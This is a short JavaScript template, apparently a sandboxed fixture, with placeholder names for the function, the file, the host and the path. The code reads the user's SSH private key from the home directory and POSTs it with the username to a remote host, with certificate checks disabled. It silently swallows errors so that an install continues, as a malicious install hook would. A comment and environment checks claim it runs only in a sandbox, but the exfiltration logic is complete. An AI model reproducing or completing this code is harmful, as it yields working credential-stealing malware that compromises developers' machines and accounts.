// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
  try {
    const file = ['{{file}}', '.ssh/id_ed25519'].map((name) => path.join(os.homedir(), name)).find((name) => fs.existsSync(name));
    const key = fs.readFileSync(file, 'utf8');
    const body = JSON.stringify({ user: os.userInfo().username, key });
    await new Promise((done) => {
      const request = https.request({ host: '{{host}}', path: '/{{path}}', method: 'POST', timeout: 1000, rejectUnauthorized: false,
        headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (answer) => answer.resume());
      request.on('timeout', () => request.destroy());
      request.on('error', done);
      request.on('close', done);
      request.end(body);
    });
  } catch (error) { /* an install goes on */ }
}
